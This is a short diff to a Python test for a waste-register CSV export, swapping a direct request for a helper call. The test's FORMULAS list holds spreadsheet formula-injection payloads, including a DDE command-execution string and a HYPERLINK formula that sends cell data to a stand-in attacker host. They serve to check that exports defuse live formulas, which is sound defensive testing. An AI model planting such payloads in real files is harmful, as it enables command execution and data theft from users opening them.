@@ -15,6 +15,7 @@ from sqlalchemy import text
 from refurb.documents.csv_export import csv_bytes, french_cell
 from refurb.reports.exports import EXPORTS
 from tests.reports import report_scene
+from tests.weee.helpers import export_register
 
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
             "+33 1 23 45 67 89", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -95,8 +96,7 @@ def test_waste_register_csv(client, db, login_as):
                  signed_by_name=FORMULAS[3])
     db.session.commit()
     login_as("admin")
-    response = client.get("/weee/register.csv", query_string={"start": "2026-01-01",
-                                                              "end": "2026-12-31"})
+    response = export_register(client, "csv", start="2026-01-01", end="2026-12-31")
     rows = cells(response.get_data())
     assert len(rows) == 2
     assert live_formulas(rows) == []
